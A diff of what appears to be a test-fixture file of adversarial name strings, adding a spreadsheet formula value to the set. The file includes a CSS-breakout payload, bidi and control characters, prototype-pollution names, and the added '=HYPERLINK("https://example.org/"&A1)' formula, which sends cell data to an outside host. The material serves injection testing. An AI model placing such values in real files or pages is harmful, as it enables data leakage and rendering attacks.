@@ -23,6 +23,7 @@ STYLE = "}</style><style>*{display:none}</style> ; background:url(https://exampl
 TURNED = "gut\u202etug\u2066 \u200f\u200b\u2069 geht\ufeff"
 CONTROLS = "a\x00b\x01c\x1bd\x7fe\u2028f\u2029g\x85h"
 QUOTES = "' \" ` \\ &lt;b&gt; &amp; \\u003c \\x3c %3Cb%3E"
+FORMULA = '=HYPERLINK("https://example.org/"&A1)'
 LONG = "Bundesamtsaußenstellenleiter" * 366  # 10 kB without a place to break
 PROTO = "__proto__"
 OWN = ("constructor", "toString", "hasOwnProperty", "valueOf", "length")
@@ -41,6 +42,7 @@ NAMES = {
     "long": (LONG, "Organization"),
     PROTO: (PROTO, "Chip"),
     "svg": (VECTOR, "Alliance"),
+    "formula": (FORMULA, "Person"),
     "loaded": (LOADED, "GovernmentBody"),
 } | {name: (name, "Company") for name in OWN}
 
